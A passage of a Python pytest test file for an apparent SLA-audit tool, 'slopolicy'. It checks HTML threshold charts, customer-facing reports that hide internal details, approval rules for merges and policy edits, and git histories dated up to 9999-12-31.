    assert len(levels(target)) == 1  # one level: 95% throughout
    low, high = levels(threshold)
    assert float(high) < float(low)  # 800 ms is higher on the page
    assert threshold.findtext("s:title", "", namespace) == (
        "latency-p95: SLA threshold in force — from 2025-01-01: 500ms; from 2025-06-01: 800ms")
    labels = [t.text for t in _panel(out, "latency-p95", "threshold").findall("s:text",
                                                                              namespace)]
    assert labels[:2] == ["latency-p95", "threshold"] and "800ms" in labels


def test_html_charts_thresholds_finer_than_a_millisecond_and_zero(repo: GitProject) -> None:
    """0.1 ms, then 0 ms: charted and named as they are (a threshold of zero is one)."""
    repo.write("slas/globex.yaml", sla(2, "2025-06-01", threshold="PT0.0001S"))
    repo.commit("faster", date="2025-05-01T12:00:00+00:00")
    repo.write("slas/globex.yaml", sla(3, "2025-08-01", threshold="PT0S"))
    repo.commit("instant", date="2025-07-01T12:00:00+00:00")
    run = repo.run("audit", "--format", "html")
    assert run.code == 0, run.err
    namespace = {"s": "http://www.w3.org/2000/svg"}
    threshold = _panel(run.out, "latency-p95", "threshold").find("s:path", namespace)
    assert threshold is not None
    assert threshold.findtext("s:title", "", namespace) == (
        "latency-p95: SLA threshold in force — from 2025-01-01: 500ms; from 2025-06-01: 0.1ms; "
        "from 2025-08-01: 0s")
    for values in ([Decimal(0)], [Decimal("0.1")], []):  # a scale of thresholds of 0 is no crash
        top, step = html_audit._ms_scale(values)
        assert top > 0 and step > 0


def test_html_title(history: Project) -> None:
    out = audit(history, "--format", "html", "--title", "Acme & Globex: Q4 review").out
    assert "<title>Acme &amp; Globex: Q4 review</title>" in out
    assert "<h1>Acme &amp; Globex: Q4 review</h1>" in out


def test_html_for_a_customer_leaves_out_what_is_internal(history: Project,
                                                         ids: dict[str, str]) -> None:
    """What an account manager can send: terms and their history, in words."""
    run = audit(history, "slas/globex-public-api.yaml", "--format", "html", "--audience",
                "customer", "--title", "Globex: your service levels")
    assert run.code == 0, run.err
    out = run.out.split("</style>", 1)[1]  # what the page says
    assert "<h1>Globex: your service levels</h1>" in out
    assert "objective availability target: 99.95 → 99.5" in out  # words, not YAML paths
    leaks = [sha[:7] for sha in ids.values() if sha[:7] in out]
    assert leaks == []  # no commit hash
    for internal in ("spec.", "slas/", ".yaml", "SLO/", "slo-target", "backing SLO",
                     "@acme.example", "Dev", "approv", "Policy", "roster"):
        assert internal not in out, internal
    assert ids["C11"][:7] not in out and "owner" not in out  # a metadata edit is internal
    page = _Html()
    page.feed(out)
    assert len(page.svgs) == 1


def test_html_snapshot_for_a_customer(history: Project, ids: dict[str, str]) -> None:
    out = audit(history, "--format", "html", "--audience", "customer", "--as-of",
                "2025-07-15").out.split("</style>", 1)[1]
    assert "<h1>Terms in force on 2025-07-15</h1>" in out
    assert "availability: 99%" in out and "backed by" not in out
    assert not [sha for sha in ids.values() if sha[:7] in out]
    assert "retroactive edit" not in out and ".yaml" not in out


@pytest.mark.parametrize("option", [["--audience", "customer"], ["--title", "Q4"]])
def test_title_and_audience_shape_the_html_report_only(history: Project,
                                                        option: list[str]) -> None:
    run = audit(history, "--format", "markdown", *option)
    assert run.code == 2 and "--format html" in run.err


def test_html_snapshot(history: Project) -> None:
    out = audit(history, "--format", "html", "--as-of", "2025-07-15").out
    assert "<h1>Terms in force on 2025-07-15, as the repository says now</h1>" in out
    assert "retroactive edit: as recorded on 2025-07-15" in out


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_goes_to_a_terminal_only(history: Project,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    old = Path.cwd()
    os.chdir(history.root)
    try:
        with contextlib.redirect_stdout(io.StringIO()) as out:
            assert main(["audit", "--format", "json"]) == 0
    finally:
        os.chdir(old)
    assert terminal.getvalue() == "\rslopolicy: audit: 12/12 commits walked\n"
    assert out.getvalue().startswith("{")  # never in the report itself
    assert audit(history, "--format", "json").err == ""  # stderr is no terminal here


def test_output_file(history: Project, tmp_path: Path) -> None:
    target = tmp_path / "audit.json"
    run = audit(history, "--format", "json", "--output", str(target))
    assert (run.code, run.out) == (0, "")
    assert target.read_text().startswith('{\n  "version": 1,')


# -- merges, errors ------------------------------------------------------------------------

def test_a_merge_is_one_change_and_its_branch_authors_cannot_approve(repo: GitProject) -> None:
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("slas/globex.yaml", sla(2, "2025-04-01", "99.95"))
    repo.commit("tighten", author="alice")
    repo.approve("alice", "legal")
    repo.commit("my own approval", author="alice")
    repo.git("checkout", "-q", "change")
    repo.git("merge", "-q", "--no-ff", "feature", "-m", "merge feature", author="dev")
    data = repo.run("audit", "--format", "json").json
    [added, tightened] = agreement(data, GLOBEX)["versions"]
    assert tightened["subject"] == "merge feature"
    assert tightened["compliant"] is False
    [alice] = tightened["approvals"]
    assert "alice@acme.example authored commit " in alice["reason"]
    assert "nobody approves their own change" in alice["reason"]


def test_a_policy_that_cannot_be_read_names_the_file_at_its_commit(repo: GitProject) -> None:
    # an approved edit first, after which a policy edit needs no approval: the broken one stands
    lax = POLICY.replace("    policy: [{role: sre, count: 1}]\n", "")
    repo.write(".slopolicy.yaml", lax)
    assert repo.approve("carol", "sre", ".slopolicy.yaml").code == 0
    repo.commit("policy edits need no approval")
    repo.write(".slopolicy.yaml", lax.replace("extends: default", "extends: team/base.yaml"))
    repo.write("team/base.yaml", "approvals: {trailers: sometimes}\n")
    broken = repo.commit("broken policy")[:7]
    repo.write("slas/globex.yaml", sla(2, "2025-04-01", "99.95"))
    tightened = repo.commit("tighten")[:7]
    repo.write("team/base.yaml", "rules: {}\n")  # mended: the working tree reads
    repo.commit("mend the policy")
    run = repo.run("audit", "--verify")
    assert run.code == 1
    assert (f"  {tightened} SLA/globex-public-api v2 tightened (2025-03-10): the policy at "
            f"{broken} cannot be read: {broken}:team/base.yaml:1:23: approvals.trailers: "
            "'sometimes' is not allowed") in run.err
    assert str(repo.root) not in run.err and "slopolicy-audit-" not in run.err


def test_the_policy_extends_a_file_the_walk_does_not_follow(repo: GitProject) -> None:
    """The roster of a commit comes from an extended file of any name, read at that commit."""
    repo.write("team/approvals.conf", POLICY)
    repo.write(".slopolicy.yaml", "extends: team/approvals.conf\n")
    repo.commit("the roster moves", author="carol")
    repo.write("slas/globex.yaml", sla(2, "2025-04-01", "99.95"))
    tightened = repo.commit("tighten")[:7]
    run = repo.run("audit", "--verify")
    assert run.code == 1
    assert (f"  {tightened} SLA/globex-public-api v2 tightened (2025-03-10): 1 more legal "
            "approver (for modified; legal: alice@acme.example") in run.err


def test_a_shallow_clone_is_refused(built: tuple[Path, dict[str, str]], tmp_path: Path,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    clone = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{built[0]}", str(clone)],
                   check=True, capture_output=True)
    run = Project(clone, capsys).run("audit")
    assert run.code == 2
    assert "shallow clone" in run.err and "fetch-depth: 0" in run.err


def test_bad_dates_are_usage_errors(history: Project) -> None:
    run = audit(history, "--as-of", "yesterday")
    assert run.code == 2
    assert "--as-of 'yesterday': not a date" in run.err
    run = audit(history, "--as-of", "2025-01-01", "--since", "2025-01-01")
    assert run.code == 2


def test_a_repository_without_commits(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = tmp_path / "empty"
    root.mkdir()
    git(root, "init", "-q")
    run = Project(root, capsys).run("audit", "--format", "json", "--verify")
    assert run.code == 0
    assert run.json["agreements"] == []
    (root / "README.md").write_text("no agreements here\n")
    git(root, "add", "README.md")
    git(root, "-c", "user.name=Dev", "-c", "user.email=dev@acme.example", "commit", "-qm", "doc")
    run = Project(root, capsys).run("audit", "--verify")  # a history, but no document in it
    assert run.code == 0
    assert run.out.startswith("0 agreements, 0 changes, 0 policy changes in empty at ")


def test_the_chart_follows_an_slo_that_moves_to_another_service(
    repo: GitProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    from slopolicy.config.project import open_project
    from slopolicy.gitops import audit as walker
    from slopolicy.gitops.git import open_repo

    other = sla().replace("globex-public-api", "globex-billing").replace(
        "service: public-api", "service: billing")
    repo.write("slas/billing.yaml", other)
    repo.write("slos/public-api.yaml", SLO)
    repo.commit("billing and the SLO", date="2025-03-02T12:00:00+00:00")
    repo.write("slos/other.yaml", SLO.replace("public-api-availability", "checkout").replace(
        "service: public-api", "service: checkout").replace("target: 0.9995", "target: 0.999"))
    repo.commit("an SLO of a third service", date="2025-03-03T12:00:00+00:00")
    repo.write("slos/public-api.yaml", SLO.replace("service: public-api", "service: billing"))
    repo.commit("the SLO now measures billing", date="2025-03-04T12:00:00+00:00")
    monkeypatch.chdir(repo.root)
    history = walker.walk(open_project([], None), open_repo(repo.root), track_slos=True)
    series = {a.name: [(p.date.day, p.target, p.slo) for p in a.slo_series["availability"]]
              for a in history.agreements}
    slo = "SLO/public-api-availability"
    assert series["globex-public-api"] == [(2, Decimal("0.9995"), slo), (4, None, "")]
    assert series["globex-billing"] == [(4, Decimal("0.9995"), slo)]


# -- the ends of the calendar ------------------------------------------------------------

FORMATS = ("text", "json", "csv", "markdown", "html")
LAST = "@253402257599 +0000"  # 9999-12-31T23:59:59Z, as git writes a date it cannot parse


@pytest.fixture(scope="module")
def far(tmp_path_factory: pytest.TempPathFactory, keys: Keys) -> Path:
    """A history reaching the last day of the calendar: terms effective from 0001-01-01
    until 9999-12-31 (a span of ten thousand years), then from 9999-12-31 on, committed
    on 9999-12-31, an hour ahead of its parent's date and in a zone fourteen hours east."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        patch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
        root = tmp_path_factory.mktemp("far") / "repo"
        root.mkdir()
        b = Builder(root, None, keys)  # type: ignore[arg-type]
        b.git("init", "-q", "-b", "main")
        b.write(".slopolicy.yaml", POLICY)
        b.write("slas/globex.yaml", sla(1, "0001-01-01", "99.9").replace(
            "    from: 0001-01-01\n", "    from: 0001-01-01\n    until: 9999-12-31\n"))
        b.commit("ten thousand years", date="2025-03-01T12:00:00+00:00")
        b.write("slas/globex.yaml", sla(2, "9999-12-31", "99.95"))
        b.commit("the last day", date="@253402210800 +1400")
        b.write("slas/globex.yaml", sla(3, "9999-12-31", "99.5"))
        b.commit("the last second", date=LAST)
        return root


@pytest.mark.parametrize(("fmt", "extra"), [
    *((fmt, extra) for fmt in FORMATS for extra in (
        (), ("--as-of", "9999-12-31"), ("--as-of", "0001-01-01"), ("--since", "9999-12-30"))),
    ("html", ("--audience", "customer"))])
def test_every_format_reaches_the_last_day_of_the_calendar(
        far: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        fmt: str, extra: tuple[str, ...]) -> None:
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    run = audit(Project(far, capsys), "--format", fmt, *extra)
    assert run.code == 0, run.err
    assert "internal error" not in run.err
    if extra[:1] != ("--as-of",) or extra[1] == "9999-12-31":
        assert "9999-12-31" in run.out
    if fmt == "html" and extra[:1] != ("--as-of",):  # the time axis: by the thousand years
        page = _Html()
        page.feed(run.out)
        axis = ET.fromstring(page.svgs[0]).find("{http://www.w3.org/2000/svg}g[@class='axis']")
        assert axis is not None
        labels = [t.text for t in axis.iter("{http://www.w3.org/2000/svg}text")]
        assert labels == [str(year) for year in range(1000, 10000, 1000)]


def test_the_terms_in_force_on_the_last_day(far: Path, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    project = Project(far, capsys)
    last = audit(project, "--as-of", "9999-12-31", "--format", "json").json
    first = audit(project, "--as-of", "0001-01-01", "--format", "json").json
    assert [a["version"] for a in last["agreements"]] == [3]
    assert [a["version"] for a in first["agreements"]] == [1]
    timeline = audit(project, "--format", "json").json
    versions = timeline["agreements"][0]["versions"]
    assert [v["effective"]["from"] for v in versions] == ["0001-01-01", "9999-12-31",
                                                         "9999-12-31"]
    # the periods of a span that ends past 9996 cannot be computed: the proof says so, and
    # a change it cannot judge counts both ways
    assert [v["change"] for v in versions] == ["added", "loosened", "loosened"]


def test_a_policy_edit_never_approved_does_not_judge_what_follows(repo: GitProject) -> None:
    """One unapproved commit drops the sre requirement for a loosening; the loosening after
    it is judged by the policy before that commit, which still asks for sre."""
    policy = (repo.root / ".slopolicy.yaml").read_text()
    weaker = policy.replace("loosened: [{role: legal, count: 1}, {role: sre, count: 1}]",
                            "loosened: [{role: legal, count: 1}]")
    assert weaker != policy
    repo.write(".slopolicy.yaml", weaker)
    dropped = repo.commit("loosenings need legal only", date="2025-03-05T12:00:00+00:00")
    repo.write("slas/globex.yaml", sla(2, "2025-06-01", "99.5"))
    assert repo.approve("alice", "legal").code == 0
    loosened = repo.commit("globex v2: 99.5", date="2025-03-10T12:00:00+00:00")
    data = audit(repo, "--format", "json").json
    [_, v2] = agreement(data, GLOBEX)["versions"]
    assert (v2["commit"], v2["compliant"]) == (loosened, False)
    assert [(m["class"], m["role"]) for m in v2["missing"]] == [("loosened", "sre")]
    first = repo.git("rev-list", "--max-parents=0", "HEAD").strip()
    assert v2["policy"] == {"commit": first, "error": None, "notApproved": dropped}
    edit = data["policy"]["changes"][-1]
    assert (edit["commit"], edit["compliant"]) == (dropped, False)
    text = audit(repo).out
    assert f"(by the policy before {dropped[:7]}: that policy edit was never approved)" in text
    verify = audit(repo, "--verify", "--since", "2025-03-08")
    assert verify.code == 1 and loosened[:7] in verify.out


def test_a_policy_edit_never_approved_still_adds_its_requirements(repo: GitProject) -> None:
    """An edit nobody approved may add a requirement, never take one away: a tightening after
    an unapproved edit that asks for two legal approvers needs both, as that edit says."""
    policy = (repo.root / ".slopolicy.yaml").read_text()
    stricter = policy.replace("modified: [{role: legal, count: 1}]",
                              "modified: [{role: legal, count: 2}]")
    assert stricter != policy
    repo.write(".slopolicy.yaml", stricter)
    repo.commit("two legal approvers for a modification", date="2025-03-05T12:00:00+00:00")
    repo.write("slas/globex.yaml", sla(2, "2025-06-01", "99.95"))
    assert repo.approve("alice", "legal").code == 0
    tightened = repo.commit("globex v2: 99.95", date="2025-03-10T12:00:00+00:00")
    [_, v2] = agreement(audit(repo, "--format", "json").json, GLOBEX)["versions"]
    assert (v2["commit"], v2["compliant"]) == (tightened, False)
    assert [(m["class"], m["role"], m["count"]) for m in v2["missing"]] == [
        ("modified", "legal", 1)]
    assert "notApproved" not in v2["policy"]  # the edit's own requirement is the one missing
